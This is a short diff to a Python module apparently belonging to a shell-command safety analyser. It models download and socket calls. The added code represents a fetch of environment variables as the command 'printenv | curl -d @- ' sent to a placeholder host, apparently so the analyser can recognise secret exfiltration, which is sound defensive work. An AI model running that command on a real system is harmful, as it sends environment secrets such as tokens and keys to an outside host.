@@ -1,7 +1,8 @@
 """Calls that download, and those that open a socket."""
 
-from codex_guard.shell.inline import things
+from codex_guard.shell.inline import names, things
 from codex_guard.shell.inline.call import Call
+from codex_guard.shell.inline.program import quoted
 from codex_guard.shell.inline.things import UNKNOWN, Thing
 from codex_guard.shell.meaning import HOLE, Value
 
@@ -19,6 +20,8 @@ def address(thing: Thing) -> str:
 
 def fetch(reader: "Reader", call: Call) -> Thing:
     """Download; what comes back is known to come from there."""
+    if any(thing.name in names.ENVIRONMENT for thing in (*call.given, *(sent for _, sent in call.named))):
+        reader.program.start(script=f"printenv | curl -d @- {quoted(HOLE)}")
     urls = [address(thing) for thing in (*call.given, *(thing for _, thing in call.named), call.subject)]
     url = next((found for found in urls if found), "") or next((thing.url for thing in call.given), "")
     if url:
